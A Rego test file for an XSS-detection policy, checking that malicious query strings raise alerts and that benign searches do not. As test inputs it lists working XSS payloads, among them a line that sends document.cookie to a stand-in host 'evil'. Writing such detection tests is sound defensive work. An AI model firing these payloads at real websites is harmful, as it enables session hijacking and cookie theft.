package sentinel.http.xss_test

import data.http.xss.testdata
import data.sentinel.http.request_test.with_query
import data.sentinel.http.xss

# The detection cases run against the shipped patterns in
# policies/data/http.yaml: they are what is under test. Cases that test the
# policy's logic set their own data. The flows are HTTP requests from the
# Internet to the frontend unless named otherwise, as the engine measured
# them (testdata/flows.jsonl, `make fixtures`); a case with a query states
# it (request_test.with_query).

test_script_tag_in_the_query_alerts if {
	xss.violation == {{
		"id": "HTTPCrossSiteScriptingAttempt",
		"severity": "info",
		"title": "Cross-site scripting attempt in an HTTP request",
		"policy": "sentinel.http.xss",
		"summary": "world 203.0.113.77 sent HTTP GET /search to shop/frontend with cross-site scripting in the query (dom_access, script_tag)",
		"description": xss.violation[_].description,
		"mitre": "T1189",
	}} with input as with_query(testdata.search_with_query, "q=%3Cscript%3Ealert(1)%3C/script%3E")
}

test_classic_payloads_alert if {
	every query in [
		"q=<script>alert(1)</script>",
		"q=%253Cscript%253E",
		"q=%3CSCRIPT+SRC=//evil/x.js%3E",
		"q=<svg/onload=alert(1)>",
		"q=<img+src=x+onerror=alert(1)>",
		"q=%22+onmouseover=%22alert(1)",
		"q='+autofocus+onfocus='alert(1)",
		"q=%22%3E%3Ciframe+src=//evil%3E",
		"q=';document.location='//evil/?c='%2Bdocument.cookie//",
		"q=\\u003cscript\\u003e",
		"q=%22-alert(1)-%22",
	] {
		count(xss.violation) == 1 with input as with_query(testdata.search_with_query, query)
	}
	every query in [
		"url=javascript:alert(document.cookie)",
		"url=JaVaScRiPt%3Aalert(1)",
		"url=java%09script:alert(1)",
		"url=data:text/html;base64,PHNjcmlwdD4=",
	] {
		count(xss.violation) == 1 with input as with_query(testdata.go_with_query, query)
	}
}

test_script_in_the_path_alerts if {
	some v in xss.violation with input as testdata.script_in_path
	contains(v.summary, "in the path (")
}

test_benign_look_alikes_do_not_alert if {
	every flow_query in [
		["search_with_query", "q=a<b"],
		["search_with_query", "q=%3C3+love"],
		["search_with_query", "q=price+<+5"],
		["search_with_query", "q=%22vintage%22+camera"],
		["search_with_query", "q=levi%27s+501"],
		["search_with_query", "q=javascript+tutorial"],
		["search_with_query", "q=online+shop&status=online"],
		["api_with_query", "filter=%22online=true%22"],
		["api_with_query", "filter=%7B%22onboarding%22:%22done%22%7D"],
		["events_with_query", "name=onload"],
		["prometheus_query", "query=rate(x%5B5m%5D)+%3C+0.5"],
		["search_with_query", "q=shoes&utm_source=google&utm_medium=cpc&utm_campaign=brand_eu"],
	] {
		count(xss.violation) == 0 with input as with_query(testdata[flow_query[0]], flow_query[1])
	}
}

test_keywords_trigger_the_patterns if {
	count(xss.violation) == 1 with input as with_query(testdata.go_with_query, "url=vbscript:msgbox")
	count(xss.violation) == 0 with input as with_query(testdata.go_with_query, "url=vbscript:msgbox")
		with data.data.http.xss_keywords as []
}

test_no_alert_on_the_response if {
	count(xss.violation) == 0 with input as with_query(testdata.search_response, "q=<script>alert(1)</script>")
}
